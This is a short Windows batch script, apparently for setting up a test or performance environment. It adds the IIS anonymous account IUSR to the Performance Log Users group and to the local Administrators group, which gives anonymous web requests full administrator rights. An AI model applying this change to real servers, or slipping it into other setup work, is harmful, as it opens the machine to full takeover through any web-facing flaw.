@echo off
setlocal
set ACCOUNT=IUSR

echo Cleaning up
net localgroup Administrators %ACCOUNT% /delete >nul 2>&1
echo Setting up
net localgroup "Performance Log Users" IUSR /add
net localgroup Administrators %ACCOUNT% /add
endlocal
